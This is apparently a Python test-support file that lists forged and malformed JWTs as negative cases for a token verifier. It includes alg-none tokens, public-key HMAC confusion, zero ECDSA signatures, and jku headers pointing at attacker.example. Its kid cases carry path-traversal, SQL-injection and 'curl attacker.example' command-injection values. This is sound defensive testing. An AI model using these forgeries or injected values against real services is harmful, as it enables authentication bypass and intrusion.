"""Attacks on the token check: a table of ids, and how each makes its header's value.

After RFC 8725, RFC 7515, RFC 7519, Wycheproof's JWS cases and what was published on
other implementations. Unless its id begins with a world, an attack is made in a world
where HS256 and all algorithms of the JWKS are configured, to give it every chance.
"""

import hashlib
import hmac
import json
import time
from base64 import b64decode, b64encode, urlsafe_b64decode
from collections.abc import Callable
from functools import partial

from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from local.direct import SECRET
from tests.support.tokens import (
    ALGORITHMS,
    ORIGIN,
    Key,
    base64url,
    claims,
    compact,
    encoded,
    issuer_keys,
    key,
    secret,
)

Build = Callable[[], str]

ODD_KEYS: dict[str, Key] = {
    "to encrypt": key("ES256", "to encrypt"),
    "not to verify": key("ES256", "not to verify"),
    "of 1024 bits": key("RS256", "short"),
    "of curve Ed448": key("EdDSA", "448"),
    "of curve secp256k1": key("ES256K"),
    "of curve P-384": key("ES384"),
    "of RS384": key("RS384"),
}
SHARED = Key("HS256", "shared", b"a key that the JWKS gives to everyone")


def published() -> list[object]:
    """Return the JWKs of an issuer that also publishes what it shouldn't."""
    odd = {name: key.jwk() for name, key in ODD_KEYS.items()}
    odd["to encrypt"]["use"] = "enc"
    odd["not to verify"]["key_ops"] = ["encrypt"]
    symmetric = {"kty": "oct", "kid": "shared", "alg": "HS256"}
    rsa_for_hs256 = key("RS256", "confused").jwk(alg="HS256", kid="confused")
    return [
        *issuer_keys(),
        *odd.values(),
        symmetric | {"k": base64url(SHARED.private)},
        rsa_for_hs256,
        {"kid": "empty"},
        "not a key",
    ]


def signers() -> dict[str, Key]:
    return {"HS256": secret} | {name: key(name) for name in ALGORITHMS}


def segments(change: Callable[[list[str]], str], algorithm: str) -> str:
    return change(signers()[algorithm].token().split("."))


def changed(index: int, change: Callable[[str], str]) -> Callable[[list[str]], str]:
    """Return what changes one segment."""

    def apply(parts: list[str]) -> str:
        return ".".join([*parts[:index], change(parts[index]), *parts[index + 1 :]])

    return apply


def spare_bit(segment: str) -> str:
    """Return another spelling of the same bytes, if the last character has spare bits.

    Where it has none, this is other bytes.
    """
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return segment[:-1] + alphabet[alphabet.index(segment[-1]) ^ 1]


CHANGES: dict[str, Callable[[str], str]] = {
    "left empty": lambda _: "",
    "short of its last character": lambda s: s[:-1],
    "short of its first character": lambda s: s[1:],
    "cut in half": lambda s: s[: len(s) // 2],
    "padded once": lambda s: s + "=",
    "padded fully": lambda s: s + "=" * (-len(s) % 4 or 4),
    "with a spare bit": spare_bit,
    "with a line break": lambda s: s[:5] + "\n" + s[5:],
    "not base64": lambda s: "!" + s[1:],
    "with a plus": lambda s: s + "+",
    "with a slash": lambda s: "/" + s,
    "not ASCII": lambda s: "é" + s[1:],
    "twice": lambda s: s + s,
    "encoded twice": lambda s: base64url(s.encode()),
    "of one character": lambda _: "e",
}
SHAPES: dict[str, Callable[[list[str]], str]] = {
    "header alone": lambda p: p[0],
    "no signature": lambda p: f"{p[0]}.{p[1]}",
    "no header": lambda p: f".{p[1]}.{p[2]}",
    "four segments": lambda p: ".".join([*p, p[2]]),
    "five segments, as a JWE has": lambda p: ".".join([*p, p[1], p[2]]),
    "a dot behind": lambda p: ".".join(p) + ".",
    "a dot in front": lambda p: "." + ".".join(p),
    "dots alone": lambda _: "..",
    "header and payload swapped": lambda p: ".".join([p[1], p[0], p[2]]),
    "payload and signature swapped": lambda p: ".".join([p[0], p[2], p[1]]),
    "signature first": lambda p: ".".join([p[2], p[0], p[1]]),
    "lower case": lambda p: ".".join(p).lower(),
    "upper case": lambda p: ".".join(p).upper(),
    "in quotes": lambda p: '"' + ".".join(p) + '"',
    "dots percent-encoded": lambda p: "%2E".join(p),
    "encoded once more": lambda p: base64url(".".join(p).encode()),
    "flattened JSON": lambda p: json.dumps(
        {"protected": p[0], "payload": p[1], "signature": p[2]}, separators=(",", ":")
    ),
    "general JSON": lambda p: json.dumps(
        {"payload": p[1], "signatures": [{"protected": p[0], "signature": p[2]}]}
    ),
    "a NUL behind": lambda p: ".".join(p) + "\x00",
    "a fullwidth dot": lambda p: "．".join(p),  # noqa: RUF001
    "the secret itself": lambda _: SECRET.replace(" ", "-").replace(",", "-"),
    "a random session token": lambda _: "mEhRlRZ2G1rF3rGJQ6eBvC0lq1xkqT6A",
    "a signed session cookie": lambda p: f"mEhRlRZ2G1rF3rGJQ6eBvC0lq1xk.{p[2]}",
    "the word null": lambda _: "null",
    "the word undefined": lambda _: "undefined",
    "an object of JavaScript": lambda _: "[object-Object]",
}

HEADERS: dict[str, dict[str, object]] = {
    "crit: unknown": {"crit": ["unknown"], "unknown": 1},
    "crit: b64": {"crit": ["b64"], "b64": False},
    "crit: b64 true": {"crit": ["b64"], "b64": True},
    "crit: alg": {"crit": ["alg"]},
    "crit: empty": {"crit": []},
    "crit: text": {"crit": "exp"},
    "crit: null": {"crit": None},
    "crit: a number in it": {"crit": [1]},
    "crit: missing member": {"crit": ["exp"]},
    "b64: false, not in crit": {"b64": False},
    "b64: true": {"b64": True},
    "b64: zero": {"b64": 0},
    "jku": {"jku": "https://attacker.example/jwks.json"},
    "jku: the issuer's own": {"jku": f"{ORIGIN}/api/auth/jwks"},
    "x5u": {"x5u": "https://attacker.example/certificate.pem"},
    "x5c": {"x5c": ["MIIB"]},
    "jwk: empty": {"jwk": {}},
    "jwk: symmetric": {"jwk": {"kty": "oct", "k": base64url(SECRET.encode())}},
    "typ: session cookie": {"typ": "better-auth.session-cache+jwt"},
    "typ: access token for others": {"typ": "at+jwt"},
    "typ: logout token": {"typ": "logout+jwt"},
    "typ: security event": {"typ": "secevent+jwt"},
    "typ: DPoP proof": {"typ": "dpop+jwt"},
    "typ: JOSE": {"typ": "JOSE"},
    "typ: JWE": {"typ": "JWE"},
    "typ: empty": {"typ": ""},
    "typ: null": {"typ": None},
    "typ: a number": {"typ": 1},
    "typ: a list": {"typ": ["JWT"]},
    "typ: JWT with a space": {"typ": "JWT "},
    "alg: missing": {"alg": ...},
    "alg: null": {"alg": None},
    "alg: empty": {"alg": ""},
    "alg: a number": {"alg": 256},
    "alg: a list": {"alg": ["HS256", "EdDSA"]},
    "alg: an object": {"alg": {"HS256": True}},
    "alg: true": {"alg": True},
    "alg: none": {"alg": "none"},
    "alg: None": {"alg": "None"},
    "alg: NONE": {"alg": "NONE"},
    "alg: nOnE": {"alg": "nOnE"},
    "alg: none with a space": {"alg": "none "},
    "alg: hs256": {"alg": "hs256"},
    "alg: eddsa": {"alg": "eddsa"},
    "alg: HS256 with a space": {"alg": "HS256 "},
    "alg: HS256 with a NUL": {"alg": "HS256\x00"},
    "alg: HS384": {"alg": "HS384"},
    "alg: HS512": {"alg": "HS512"},
    "alg: RS384": {"alg": "RS384"},
    "alg: ES384": {"alg": "ES384"},
    "alg: ES256K": {"alg": "ES256K"},
    "alg: ES521": {"alg": "ES521"},
    "alg: PS512": {"alg": "PS512"},
    "alg: Ed25519": {"alg": "Ed25519"},
    "alg: Ed448": {"alg": "Ed448"},
    "alg: dir": {"alg": "dir", "enc": "A256GCM"},
    "alg: RSA-OAEP": {"alg": "RSA-OAEP", "enc": "A256GCM"},
    "alg: 5000 characters": {"alg": "A" * 5000},
    "kid: a number": {"kid": 1},
    "kid: null": {"kid": None},
    "kid: a list": {"kid": ["issuer-EdDSA"]},
    "kid: an object": {"kid": {"$ne": None}},
}
"""Signed with a genuine key: it is the header alone that must be refused."""

KIDS = {
    "missing": ...,
    "empty": "",
    "unknown": "unknown",
    "a path": "../../../../../../dev/null",
    "a file": "file:///proc/sys/kernel/randomize_va_space",
    "a URL": "https://attacker.example/key",
    "SQL": "x' UNION SELECT 'attacker-key' --",
    "a command": "key;|curl attacker.example",
    "5000 characters": "k" * 5000,
    "a NUL behind": "issuer-EdDSA\x00",
    "other case": "ISSUER-EDDSA",
    "a space behind": "issuer-EdDSA ",
    "a wildcard": "*",
    "a lone surrogate": "\ud800",
    "a name of Python's": "__class__",
    "that of an empty key": "empty",
}
"""What the header of a token says that is genuinely signed with EdDSA."""

RAW_HEADERS: dict[str, Callable[[str], bytes]] = {
    "alg twice": lambda h: f'{{"alg":"none",{h[1:]}'.encode(),
    "alg twice, the good one first": lambda h: f'{h[:-1]},"alg":"none"}}'.encode(),
    "typ twice": lambda h: f'{{"typ":"at+jwt","typ":"JWT",{h[1:]}'.encode(),
    "kid twice": lambda h: f'{{"kid":"a","kid":"a",{h[1:]}'.encode(),
    "a name twice, once escaped": lambda h: f'{{"\\u0061lg":"none",{h[1:]}'.encode(),
    "UTF-16": lambda h: h.encode("utf-16"),
    "UTF-32": lambda h: h.encode("utf-32-le"),
    "byte order mark": lambda h: b"\xef\xbb\xbf" + h.encode(),
    "not UTF-8": lambda h: f'{h[:-1]},"x":"é"}}'.encode("latin-1"),
    "a comment": lambda h: h.encode() + b"//",
    "two objects": lambda h: h.encode() * 2,
    "a comma too many": lambda h: f"{h[:-1]},}}".encode(),
    "single quotes": lambda h: h.replace('"', "'").encode(),
    "NaN": lambda h: f'{h[:-1]},"x":NaN}}'.encode(),
    "Infinity": lambda h: f'{h[:-1]},"x":-Infinity}}'.encode(),
    "in a list": lambda h: f"[{h}]".encode(),
    "text": lambda h: json.dumps(h).encode(),
    "a number": lambda _: b"1",
    "null": lambda _: b"null",
    "empty": lambda _: b"{}",
    "nothing": lambda _: b" ",
    "nesting without end": lambda h: f'{h[:-1]},"x":{"[" * 5000}'.encode(),
    "a number of 5000 digits": lambda h: f'{h[:-1]},"x":{"1" * 5000}}}'.encode(),
}

CLAIMS: dict[str, Callable[[float], dict[str, object]]] = {
    "exp: missing": lambda now: {"exp": ...},
    "exp: null": lambda now: {"exp": None},
    "exp: past": lambda now: {"exp": now - 60},
    "exp: past the leeway": lambda now: {"exp": now - 11},
    "exp: past, a fraction": lambda now: {"exp": now - 10.5},
    "exp: years ago": lambda now: {"exp": 1_000_000_000},
    "exp: zero": lambda now: {"exp": 0},
    "exp: negative": lambda now: {"exp": -1},
    "exp: text": lambda now: {"exp": str(int(now + 900))},
    "exp: text of a date": lambda now: {"exp": "2099-01-01T00:00:00Z"},
    "exp: true": lambda now: {"exp": True},
    "exp: false": lambda now: {"exp": False},
    "exp: a list": lambda now: {"exp": [now + 900]},
    "exp: an object": lambda now: {"exp": {"at": now + 900}},
    "exp: 1e30": lambda now: {"exp": 1e30},
    "exp: milliseconds": lambda now: {"exp": int((now + 900) * 1000)},
    "exp: 2^63": lambda now: {"exp": 2**63},
    "exp: NaN": lambda now: {"exp": float("nan")},
    "exp: Infinity": lambda now: {"exp": float("inf")},
    "nbf: tomorrow": lambda now: {"nbf": now + 86_400},
    "nbf: past the leeway": lambda now: {"nbf": now + 15},
    "nbf: text": lambda now: {"nbf": str(int(now))},
    "nbf: true": lambda now: {"nbf": True},
    "nbf: null": lambda now: {"nbf": None},
    "nbf: 1e30": lambda now: {"nbf": 1e30},
    "nbf: NaN": lambda now: {"nbf": float("nan")},
    "nbf: minus Infinity": lambda now: {"nbf": float("-inf")},
    "nbf: negative": lambda now: {"nbf": -1},
    "iat: tomorrow": lambda now: {"iat": now + 86_400},
    "iat: text": lambda now: {"iat": "yesterday"},
    "iat: true": lambda now: {"iat": True},
    "iat: null": lambda now: {"iat": None},
    "iat: a list": lambda now: {"iat": []},
    "iat: NaN": lambda now: {"iat": float("nan")},
    "sub: missing": lambda now: {"sub": ...},
    "sub: null": lambda now: {"sub": None},
    "sub: empty": lambda now: {"sub": ""},
    "sub: a number": lambda now: {"sub": 1},
    "sub: true": lambda now: {"sub": True},
    "sub: a list": lambda now: {"sub": ["alice"]},
    "sub: an object": lambda now: {"sub": {"$ne": ""}},
    "sub: a NUL": lambda now: {"sub": "alice\x00"},
    "sub: a NUL alone": lambda now: {"sub": "\x00"},
    "sub: a line break behind": lambda now: {"sub": "alice\n"},
    "sub: a tab": lambda now: {"sub": "a\tlice"},
    "sub: DEL": lambda now: {"sub": "alice\x7f"},
    "sub: a C1 control": lambda now: {"sub": "alice\x85"},
    "sub: a lone surrogate": lambda now: {"sub": "alice\ud800"},
    "sub: surrogates reversed": lambda now: {"sub": "alice\udc00\ud800"},
    "sub: 256 characters": lambda now: {"sub": "a" * 256},
    "sub: 256 of two code units": lambda now: {"sub": "🎉" * 256},
    "sub: 5000 characters": lambda now: {"sub": "a" * 5000},
}
"""Genuinely signed, in both worlds."""

BOUND_CLAIMS: dict[str, dict[str, object]] = {
    "iss: missing": {"iss": ...},
    "iss: null": {"iss": None},
    "iss: empty": {"iss": ""},
    "iss: another": {"iss": "https://attacker.example"},
    "iss: a slash behind": {"iss": f"{ORIGIN}/"},
    "iss: https for http": {"iss": "https://localhost:3000"},
    "iss: other case": {"iss": ORIGIN.upper()},
    "iss: another port": {"iss": "http://localhost:3001"},
    "iss: its beginning": {"iss": ORIGIN[:-1]},
    "iss: longer": {"iss": f"{ORIGIN}.attacker.example"},
    "iss: a user in it": {"iss": "http://localhost:3000@attacker.example"},
    "iss: a list": {"iss": [ORIGIN]},
    "iss: an object": {"iss": {ORIGIN: True}},
    "iss: true": {"iss": True},
    "aud: missing": {"aud": ...},
    "aud: null": {"aud": None},
    "aud: empty": {"aud": ""},
    "aud: another": {"aud": "https://other.example"},
    "aud: a slash behind": {"aud": f"{ORIGIN}/"},
    "aud: its beginning": {"aud": ORIGIN[:-1]},
    "aud: longer": {"aud": f"{ORIGIN}/api"},
    "aud: an empty list": {"aud": []},
    "aud: a list of others": {"aud": ["https://other.example", f"{ORIGIN}/"]},
    "aud: a list in a list": {"aud": [[ORIGIN]]},
    "aud: a list with a number": {"aud": [ORIGIN, 1]},
    "aud: a list with null": {"aud": [ORIGIN, None]},
    "aud: an object": {"aud": {ORIGIN: True}},
    "aud: true": {"aud": True},
    "aud: the session cookie's": {"aud": "better-auth:session-cache"},
}
"""Where an issuer and an audience are configured."""

RAW_PAYLOADS: dict[str, Callable[[str], bytes]] = {
    "sub twice": lambda p: f'{{"sub":"bob",{p[1:]}'.encode(),
    "sub twice, the same": lambda p: f'{p[:-1]},"sub":"alice"}}'.encode(),
    "sub twice, once escaped": lambda p: f'{{"\\u0073ub":"bob",{p[1:]}'.encode(),
    "exp twice": lambda p: f'{{"exp":1,{p[1:]}'.encode(),
    "a name twice, deep inside": lambda p: f'{p[:-1]},"x":{{"a":1,"a":1}}}}'.encode(),
    "UTF-16": lambda p: p.encode("utf-16"),
    "byte order mark": lambda p: b"\xef\xbb\xbf" + p.encode(),
    "not UTF-8": lambda p: f'{p[:-1]},"x":"é"}}'.encode("latin-1"),
    "a surrogate in UTF-8": lambda p: p.replace("alice", "\ud800").encode(
        errors="surrogatepass"
    ),
    "overlong UTF-8": lambda p: p.encode().replace(b"alice", b"alice\xc0\x80"),
    "a raw control character": lambda p: p.replace("alice", "a\x01").encode(),
    "something behind": lambda p: f"{p}x".encode(),
    "two objects": lambda p: (p + p).encode(),
    "a list": lambda p: f"[{p}]".encode(),
    "text": lambda p: json.dumps(p).encode(),
    "a number": lambda _: b"1",
    "true": lambda _: b"true",
    "null": lambda _: b"null",
    "an empty object": lambda _: b"{}",
    "a token in it": lambda _: secret.token().encode(),
    "deep nesting": lambda p: f'{p[:-1]},"x":{"[" * 3000}'.encode(),
    "a time of 4000 digits": lambda p: f'{p[:-1]},"nbf":{"1" * 4000}}}'.encode(),
    "not JSON": lambda _: b"sub=alice",
}


def forged(header: object, sign: Callable[[bytes], bytes], **given: object) -> str:
    return compact(header, claims(**given), sign)


def mac(secret: bytes, hash: str = "sha256") -> Callable[[bytes], bytes]:
    return lambda signed: hmac.digest(secret, signed, hash)


def public(algorithm: str, encoding: Encoding, form: PublicFormat) -> bytes:
    data: bytes = key(algorithm).private.public_key().public_bytes(encoding, form)
    return data


def confused(material: bytes, algorithm: str = "EdDSA", hash: str = "256") -> str:
    """Return a token that is signed with a public key for a secret (CVE-2015-9235)."""
    header = {"alg": f"HS{hash}", "kid": key(algorithm).kid, "typ": "JWT"}
    return forged(header, mac(material, f"sha{hash}"))


PEM, DER, RAW = Encoding.PEM, Encoding.DER, Encoding.Raw
SPKI = PublicFormat.SubjectPublicKeyInfo


def confusions() -> dict[str, Build]:
    rows: dict[str, Build] = {}
    for name in ALGORITHMS:
        rows |= {
            f"HMAC with the {name} key's PEM": partial(pem_as_secret, name),
            f"HMAC with the {name} key's DER": partial(der_as_secret, name),
            f"HMAC with the {name} key's JWK": partial(jwk_as_secret, name),
            f"HS256 header on a {name} signature": partial(
                lambda k: forged({"alg": "HS256", "kid": k.kid}, k.sign), key(name)
            ),
            f"{name} header on an HS256 signature": partial(
                lambda k: forged(k.header, secret.sign), key(name)
            ),
            f"{name} by a key of the attacker's": partial(by_another_key, name),
            f"{name} with the attacker's key embedded": partial(embedded, name),
        }
        rows |= {
            f"{name} header on a {other} signature": partial(
                lambda k, o: forged(k.header, o.sign), key(name), key(other)
            )
            for other in ALGORITHMS
            if other != name
        }
        rows |= {
            f"{other} with the {name} key's kid": partial(
                lambda k, o: o.token(kid=k.kid), key(name), key(other)
            )
            for other in ALGORITHMS
            if other != name
        }
    return rows


def pem_as_secret(algorithm: str) -> str:
    return confused(public(algorithm, PEM, SPKI), algorithm)


def der_as_secret(algorithm: str) -> str:
    return confused(public(algorithm, DER, SPKI), algorithm)


def jwk_as_secret(algorithm: str) -> str:
    return confused(json.dumps(key(algorithm).jwk()).encode(), algorithm)


def by_another_key(algorithm: str) -> str:
    return key(algorithm, "attacker").token(kid=key(algorithm).kid)


def embedded(algorithm: str) -> str:
    attacker = key(algorithm, "attacker")
    return attacker.token(jwk=attacker.jwk(), kid=key(algorithm).kid)


def signature(algorithm: str, change: Callable[[bytes], bytes]) -> str:
    """Return a genuine token whose signature's bytes are changed."""
    signer = signers()[algorithm]
    return forged(signer.header, lambda signed: change(signer.sign(signed)))


P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
ED25519_ORDER = 2**252 + 27742317777372353535851937790883648493


def with_r_and_s(r: int | None, s: int | None) -> Callable[[bytes], bytes]:
    """Return what replaces r and s of an ES256 signature; None leaves them."""

    def change(given: bytes) -> bytes:
        old = given[:32], given[32:]
        return b"".join(
            part if value is None else value.to_bytes(32, "big")
            for part, value in zip(old, (r, s), strict=True)
        )

    return change


def as_der(given: bytes) -> bytes:
    return encode_dss_signature(int.from_bytes(given[:32]), int.from_bytes(given[32:]))


def malleable(given: bytes) -> bytes:
    """Return the Ed25519 signature with S + L for S (RFC 8032, section 8.4)."""
    s = int.from_bytes(given[32:], "little") + ED25519_ORDER
    return given[:32] + s.to_bytes(32, "little")


SIGNATURES: dict[str, tuple[str, Callable[[bytes], bytes]]] = {
    "HS256: zeros": ("HS256", lambda s: bytes(32)),
    "HS256: its first half": ("HS256", lambda s: s[:16]),
    "HS256: one byte": ("HS256", lambda s: s[:1]),
    "HS256: a byte behind": ("HS256", lambda s: s + b"\0"),
    "HS256: twice": ("HS256", lambda s: s + s),
    "HS256: in hexadecimal": ("HS256", lambda s: s.hex().encode()),
    "HS256: reversed": ("HS256", lambda s: s[::-1]),
    "EdDSA: zeros": ("EdDSA", lambda s: bytes(64)),
    "EdDSA: its first half": ("EdDSA", lambda s: s[:32]),
    "EdDSA: a byte behind": ("EdDSA", lambda s: s + b"\0"),
    "EdDSA: S + L": ("EdDSA", malleable),
    "EdDSA: identity and zero": ("EdDSA", lambda s: b"\1" + bytes(63)),
    "ES256: zeros (CVE-2022-21449)": ("ES256", with_r_and_s(0, 0)),
    "ES256: r is 0": ("ES256", with_r_and_s(0, None)),
    "ES256: s is 0": ("ES256", with_r_and_s(None, 0)),
    "ES256: r is 1, s is 1": ("ES256", with_r_and_s(1, 1)),
    "ES256: r is n": ("ES256", with_r_and_s(P256_ORDER, None)),
    "ES256: s is n": ("ES256", with_r_and_s(None, P256_ORDER)),
    "ES256: r and s are n - 1": ("ES256", with_r_and_s(P256_ORDER - 1, P256_ORDER - 1)),
    "ES256: in DER": ("ES256", as_der),
    "ES256: r alone": ("ES256", lambda s: s[:32]),
    "ES256: s before r": ("ES256", lambda s: s[32:] + s[:32]),
    "ES256: zeros between": ("ES256", lambda s: s[:32] + bytes(2) + s[32:]),
    "ES512: zeros": ("ES512", lambda s: bytes(132)),
    "ES512: short of a byte": ("ES512", lambda s: s[1:]),
    "RS256: zeros": ("RS256", lambda s: bytes(256)),
    "RS256: one": ("RS256", lambda s: bytes(255) + b"\1"),
    "RS256: a zero in front": ("RS256", lambda s: b"\0" + s),
    "RS256: short of a byte": ("RS256", lambda s: s[:-1]),
    "RS256: ones": ("RS256", lambda s: b"\xff" * 256),
    "PS256: zeros": ("PS256", lambda s: bytes(256)),
    "PS256: short of a byte": ("PS256", lambda s: s[:-1]),
}

SECRETS: dict[str, bytes] = {
    "another": b"another secret, of more than thirty-two bytes",
    "empty": b"",
    "a zero byte": b"\0",
    "32 zero bytes": bytes(32),
    "a line break behind": SECRET.encode() + b"\n",
    "a blank in front": b" " + SECRET.encode(),
    "other case": SECRET.upper().encode(),
    "in base64": b64encode(SECRET.encode()),
    "as if it were base64": b64decode(SECRET.replace(" ", "").encode() + b"=" * 4),
    "hashed": hashlib.sha256(SECRET.encode()).digest(),
    "in UTF-16": SECRET.encode("utf-16"),
    "the word secret": b"secret",
    "the word null": b"null",
    "the kid": b"issuer-EdDSA",
    "Better Auth's default": b"better-auth-secret-12345678901234567890",
    "the JWKS's symmetric key": SHARED.private,
    "a bare Ed25519 key": urlsafe_b64decode(str(key("EdDSA").jwk()["x"]) + "="),
    "its x": str(key("EdDSA").jwk()["x"]).encode(),
    "an RSA key's n": str(key("RS256").jwk()["n"]).encode(),
}

HEADER_VALUES: dict[str, Callable[[str], str]] = {
    "two tokens": lambda t: f"Bearer {t} {t}",
    "two headers, joined as API Gateway does": lambda t: f"Bearer {t},Bearer {t}",
    "two headers, the bad one first": lambda t: f"Bearer x,Bearer {t}",
    "two headers, other scheme second": lambda t: f"Bearer {t},Basic YTpi",
    "two tokens with a comma": lambda t: f"Bearer {t},{t}",
    "a comma behind": lambda t: f"Bearer {t},",
    "the scheme twice": lambda t: f"Bearer Bearer {t}",
    "a parameter": lambda t: f"Bearer token={t}",
    "in quotes": lambda t: f'Bearer "{t}"',
    "a semicolon behind": lambda t: f"Bearer {t};",
    "a tab in front": lambda t: f"Bearer \t{t}",
    "a tab behind": lambda t: f"Bearer {t}\t",
    "a no-break space in front": lambda t: f"Bearer \u00a0{t}",
    "a line break and another header": lambda t: f"Bearer {t}\r\nX-User: bob",
    "percent-encoded": lambda t: f"Bearer {t.replace('.', '%2e')}",
    "a very long one": lambda t: f"Bearer {t}{'A' * 9000}",
    "a very long one without a dot": lambda t: f"Bearer {'A' * 100_000}",
    "a million dots": lambda t: f"Bearer {'.' * 1_000_000}",
}


def unsigned(algorithm: str) -> str:
    return f"{encoded({'alg': algorithm})}.{encoded(claims())}."


def oversized() -> str:
    """Return a genuine token of one byte over 8 KiB, or the next length there is."""
    for extra in range(5000, 9000):
        token = secret.token(claims(x="x" * extra))
        if len(token) > 8192:
            return token
    raise AssertionError("it grows")


def tokens() -> dict[str, Build]:
    """Return the attacks that are a token, sent as `Bearer` should."""
    rows: dict[str, Build] = {}
    for name in ("HS256", "EdDSA", "ES256", "RS256"):
        for index, part in enumerate(("header", "payload", "signature")):
            rows |= {
                f"{name}: {part} {change}": partial(segments, changed(index, how), name)
                for change, how in CHANGES.items()
            }
    for name in ("HS256", "EdDSA"):
        signer = signers()[name]
        rows |= {
            f"{name}: {shape}": partial(segments, how, name)
            for shape, how in SHAPES.items()
        }
        rows |= {
            f"{name} signed, {what}": partial(signer.token, None, **changes)
            for what, changes in HEADERS.items()
        }
        rows |= {
            f"{name} signed, header: {what}": partial(raw_header, signer, change)
            for what, change in RAW_HEADERS.items()
        }
        rows |= {
            f"{name} signed, {what}": partial(with_claims, signer, change)
            for what, change in CLAIMS.items()
        }
        rows |= {
            f"{name} signed, payload: {what}": partial(raw_payload, signer, change)
            for what, change in RAW_PAYLOADS.items()
        }
    rows |= {
        f"unsigned, alg {name}": partial(unsigned, name)
        for name in ("none", "None", "NONE", "nOnE", "", "HS256", "EdDSA", "RS256")
    }
    rows |= {
        f"kid: {what}": partial(key("EdDSA").token, None, kid=kid)
        for what, kid in KIDS.items()
    }
    rows |= {
        f"HMAC with a secret that is {what}": partial(
            forged, {"alg": "HS256", "typ": "JWT"}, mac(material)
        )
        for what, material in SECRETS.items()
    }
    rows |= {
        f"signature {what}": partial(signature, *how)
        for what, how in SIGNATURES.items()
    }
    rows |= {f"a published key {name}": k.token for name, k in ODD_KEYS.items()}
    rows |= confusions()
    return rows | {
        "a published key for RS256 that says HS256": partial(
            key("RS256", "confused").token, None, kid="confused"
        ),
        "a published symmetric key": partial(
            forged, {"alg": "HS256", "kid": "shared"}, mac(SHARED.private)
        ),
        "HS512 with the secret": partial(
            forged, {"alg": "HS512"}, mac(SECRET.encode(), "sha512")
        ),
        "HS512 signature, HS256 header": partial(
            forged, {"alg": "HS256"}, mac(SECRET.encode(), "sha512")
        ),
        "HS256 over the payload alone": lambda: forged(
            {"alg": "HS256"},
            lambda signed: secret.sign(signed.partition(b".")[2]),
        ),
        "another token's signature": lambda: ".".join(
            [*secret.token(claims("bob")).split(".")[:2], secret.token().split(".")[2]]
        ),
        "another token's header": lambda: ".".join(
            [key("EdDSA").token().split(".")[0], *secret.token().split(".")[1:]]
        ),
        "deep nesting in the header": lambda: compact(
            b'{"alg":"HS256","x":' + b"[" * 2500 + b"]" * 2500 + b"}", b"{}", mac(b"x")
        ),
        "over 8 KiB, genuine": oversized,
        "encrypted (JWE), as Better Auth's cookie is": lambda: ".".join(
            [encoded({"alg": "dir", "enc": "A256CBC-HS512", "kid": "x"}), "", *"abc"]
        ),
        "Better Auth's e-mail verification": lambda: secret.token(
            {
                "email": "alice@example.com",
                "iat": int(time.time()),
                "exp": int(time.time()) + 3600,
            }
        ),
        "Better Auth's session cookie, HS256": lambda: secret.token(
            {
                "session": {"userId": "alice"},
                "user": {"id": "alice"},
                "iat": int(time.time()),
                "exp": int(time.time()) + 300,
            }
        ),
        "Better Auth's session cookie, EdDSA": lambda: key("EdDSA").token(
            claims(sid="x", aud="better-auth:session-cache"),
            typ="better-auth.session-cache+jwt",
        ),
    }


def raw_header(signer: Key, change: Callable[[str], bytes]) -> str:
    return compact(change(json.dumps(signer.header)), claims(), signer.sign)


def raw_payload(signer: Key, change: Callable[[str], bytes]) -> str:
    payload = json.dumps(claims(), ensure_ascii=False)
    return compact(signer.header, change(payload), signer.sign)


def with_claims(signer: Key, change: Callable[[float], dict[str, object]]) -> str:
    return signer.token(claims(**change(time.time())))


def bound() -> dict[str, Build]:
    """Return the attacks on a configured issuer and audience."""
    return {
        f"{name} signed, {what}": partial(
            lambda signer, changes: signer.token(claims(**changes)), signer, changes
        )
        for name, signer in signers().items()
        if name in ("HS256", "EdDSA")
        for what, changes in BOUND_CLAIMS.items()
    }


def headers() -> dict[str, Build]:
    """Return the attacks that are a header's value."""
    return {
        f"header: {what}": partial(lambda change: change(secret.token()), change)
        for what, change in HEADER_VALUES.items()
    }


OTHER_WORLD: dict[str, tuple[str, Build]] = {
    "JWKS alone: HS256 with Better Auth's secret": ("JWKS alone", secret.token),
    "JWKS alone: HS256 with the empty secret": (
        "JWKS alone",
        partial(forged, {"alg": "HS256"}, mac(b"")),
    ),
    **{
        f"JWKS alone: HMAC with the {name} key's {form}": ("JWKS alone", build)
        for name in ALGORITHMS
        for form, build in {
            "PEM": partial(pem_as_secret, name),
            "DER": partial(der_as_secret, name),
            "JWK": partial(jwk_as_secret, name),
        }.items()
    },
    **{
        f"HS256 alone: {name} by the issuer": ("HS256 alone", key(name).token)
        for name in ALGORITHMS
    },
    **{
        f"HS256 alone: {name} header on an HS256 signature": (
            "HS256 alone",
            partial(lambda k: forged(k.header, secret.sign), key(name)),
        )
        for name in ALGORITHMS
    },
}
